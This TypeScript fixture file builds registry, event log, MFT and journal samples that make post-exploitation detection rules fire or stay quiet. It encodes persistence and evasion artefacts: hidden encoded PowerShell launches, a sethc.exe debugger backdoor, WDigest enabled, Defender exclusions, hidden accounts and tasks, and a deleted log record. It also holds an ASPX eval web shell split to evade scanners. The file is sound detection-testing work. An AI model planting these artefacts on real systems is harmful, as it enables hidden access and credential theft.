import { certificateRequestFor, der, pem } from '../parsers/config/certificate-writer.ts'
import { Chunk, evtxFile, evtxOfChunks, type EvtxRecord, unlink } from '../parsers/evtx/write.ts'
import { mftFile, usnFile } from '../parsers/ntfs/write.ts'
import { hiveFile, type HiveTree } from '../parsers/regf/write.ts'

const time = '2021-03-03T05:02:10.1234567Z'
const encoded = Buffer.from('Write-Output "a sample, nothing to run"', 'utf16le').toString('base64')

const system = (tree: HiveTree): Buffer =>
  hiveFile({ Select: { values: { Current: 1, Default: 1 } }, ...tree }, { name: 'SYSTEM', time })
const software = (tree: HiveTree): Buffer => hiveFile(tree, { name: '\\SystemRoot\\System32\\Config\\SOFTWARE', time })

const service = (image: string): HiveTree => ({
  'ControlSet001\\Services\\Sample': {
    values: { ImagePath: { type: 'REG_EXPAND_SZ', data: image }, Start: 2, Type: 16, ObjectName: 'LocalSystem' },
  },
})
const run = (command: string): HiveTree => ({
  'Microsoft\\Windows\\CurrentVersion\\Run': { values: { Sample: command } },
})
const debuggerOf = (program: string, by: string): HiveTree => ({
  [`Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\${program}`]: { values: { Debugger: by } },
})
const wdigest = (value: number): HiveTree => ({
  'ControlSet001\\Control\\SecurityProviders\\WDigest': { values: { UseLogonCredential: value } },
})
const exclusion = (path: string): HiveTree => ({
  'Microsoft\\Windows Defender\\Exclusions\\Paths': { values: { [path]: 0 } },
})
const userList = (name: string, shown: number): HiveTree => ({
  'Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList': { values: { [name]: shown } },
})

/** A task as the registry knows it: its actions in the form of version 3, its place in the tree with or without a descriptor. */
function taskCache(descriptor: boolean): HiveTree {
  const id = '{6F2C19B4-0D3A-4E51-9C7E-2B8A54D1E0F7}'
  const text = (value: string): Buffer => {
    const data = Buffer.from(value, 'utf16le')
    const size = Buffer.alloc(4)
    size.writeUInt32LE(data.length)
    return Buffer.concat([size, data])
  }
  const actions = Buffer.concat([
    Buffer.from([3, 0]),
    text('Author'),
    Buffer.from([0x66, 0x66]),
    text(''),
    text('C:\\Windows\\System32\\notepad.exe'),
    text('/a'),
    text(''),
    Buffer.from([0, 0]),
  ])
  const cache = 'Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache'
  return {
    [`${cache}\\Tasks\\${id}`]: {
      values: { Path: '\\Sample', Actions: { type: 'REG_BINARY', data: actions }, Author: 'CONTOSO\\Administrator' },
    },
    [`${cache}\\Tree\\Sample`]: {
      values: {
        Id: id,
        Index: 3,
        ...(descriptor ? { SD: { type: 'REG_BINARY', data: Buffer.from('0100048000000000', 'hex') } as const } : {}),
      },
    },
  }
}

// In two parts, so that no virus scanner takes this file for a page that runs.
const page = [
  '<script language="JScript" run',
  'at="server">function Page_Load(){/* a sample */ ev',
  'al(Request["none"],"unsafe")}</script>',
].join('')
const mft = (content: string): Buffer =>
  mftFile([{ path: 'C:\\inetpub\\wwwroot\\aspnet_client\\sample.aspx', created: time, resident: content }])

const record = (recordId: number, more: Partial<EvtxRecord> = {}): EvtxRecord => ({
  channel: 'Security',
  provider: 'Microsoft-Windows-Security-Auditing',
  eventId: 4624,
  computer: 'MAIL01.contoso.example',
  recordId,
  time: Date.parse('2021-03-03T05:00:00Z') + recordId * 1000,
  data: [
    ['TargetUserName', 'Administrator'],
    ['LogonType', '3'],
  ],
  ...more,
})

const prefetch = (name: string): Buffer =>
  hiveFile(
    {
      [`Root\\InventoryApplicationFile\\${name}|1a2b3c4d5e6f7081`]: {
        values: {
          LowerCaseLongPath: `c:\\perflogs\\${name}`,
          Name: name,
          FileId: `0000${'ab'.repeat(20)}`,
          Publisher: '',
        },
      },
    },
    { name: 'Amcache.hve', root: '{11517B7C-E79D-4E20-961B-75A811715ADD}', time },
  )

/** A log out of which the middle record was taken, as eventlogedit does. */
function unlinked(): Buffer {
  const chunk = new Chunk()
  for (const id of [1, 2, 3]) chunk.add(record(id))
  return evtxOfChunks([unlink(chunk.finish(), 2)])
}

const journal = (path: string): Buffer =>
  usnFile([
    { path, time: '2021-03-03T05:02:10Z', reason: ['FILE_CREATE'] },
    { path, time: '2021-03-03T05:02:11Z', reason: ['FILE_CREATE', 'DATA_EXTEND', 'CLOSE'] },
  ])

const requestFor = (name: string): Buffer => Buffer.from(pem(certificateRequestFor(der(12, name))))

/** Every binary sample of the packs, by its path below `packs/`; binary-samples.test.ts holds the files to these. */
export const binarySamples: Readonly<Record<string, () => Buffer>> = Object.fromEntries(
  (
    [
      ['service-runs-code', 'fire/SYSTEM', () => system(service(`%COMSPEC% /b /c start powershell -enc ${encoded}`))],
      ['service-runs-code', 'quiet/SYSTEM', () => system(service('"C:\\Program Files\\Vendor\\agent.exe" /service'))],
      ['service-odd-place', 'fire/SYSTEM', () => system(service('C:\\Users\\Public\\svc.exe'))],
      ['service-odd-place', 'quiet/SYSTEM', () => system(service('C:\\Windows\\system32\\svchost.exe -k netsvcs'))],
      ['startup-runs-code', 'fire/SOFTWARE', () => software(run(`powershell -w hidden -enc ${encoded}`))],
      ['startup-runs-code', 'quiet/SOFTWARE', () => software(run('"C:\\Program Files\\Vendor\\tray.exe" /min'))],
      ['startup-odd-place', 'fire/SOFTWARE', () => software(run('C:\\Windows\\Temp\\tray.exe'))],
      ['startup-odd-place', 'quiet/SOFTWARE', () => software(run('"C:\\Program Files\\Vendor\\tray.exe" /min'))],
      ['logon-screen-backdoor', 'fire/SOFTWARE', () => software(debuggerOf('sethc.exe', 'cmd.exe'))],
      [
        'logon-screen-backdoor',
        'quiet/SOFTWARE',
        () => software(debuggerOf('vendor.exe', 'C:\\Tools\\vsjitdebugger.exe')),
      ],
      ['wdigest-on', 'fire/SYSTEM', () => system(wdigest(1))],
      ['wdigest-on', 'quiet/SYSTEM', () => system(wdigest(0))],
      ['defender-exclusion-odd', 'fire/SOFTWARE', () => software(exclusion('C:\\inetpub\\wwwroot'))],
      [
        'defender-exclusion-odd',
        'quiet/SOFTWARE',
        () => software(exclusion('C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Mailbox')),
      ],
      ['account-hidden', 'fire/SOFTWARE', () => software(userList('support', 0))],
      ['account-hidden', 'quiet/SOFTWARE', () => software(userList('support', 1))],
      ['task-hidden-from-list', 'fire/SOFTWARE', () => software(taskCache(false))],
      ['task-hidden-from-list', 'quiet/SOFTWARE', () => software(taskCache(true))],
      ['resident-script', 'fire/$MFT', () => mft(page)],
      ['resident-script', 'quiet/$MFT', () => mft('<html><body>a sample, nothing to run</body></html>')],
      ['event-record-removed', 'fire/Security.evtx', unlinked],
      ['event-record-removed', 'quiet/Security.evtx', () => evtxFile([record(1), record(2), record(3)])],
      ['page-made-somewhere', 'fire/$J', () => journal('C:\\inetpub\\wwwroot\\aspnet_client\\sample.aspx')],
      [
        'page-made-somewhere',
        'quiet/an-update/$J',
        () => journal('C:\\Exchange\\FrontEnd\\HttpProxy\\owa\\auth\\logon.aspx'),
      ],
      ['page-made-somewhere', 'quiet/$J', () => journal('C:\\inetpub\\wwwroot\\aspnet_client\\sample.log')],
      [
        'certificate-request-script',
        'fire/sample.aspx.req',
        () => requestFor('<script run' + 'at="server">/* a sample */</script>'),
      ],
      ['certificate-request-script', 'quiet/mail.req', () => requestFor('mail.contoso.example')],
      ['program-for-intruders', 'fire/Amcache.hve', () => prefetch('mimikatz.exe')],
      ['program-for-intruders', 'quiet/Amcache.hve', () => prefetch('setup.exe')],
    ] as const
  ).map(([rule, path, make]) => [`post-exploitation/samples/rules/${rule}/${path}`, make]),
)
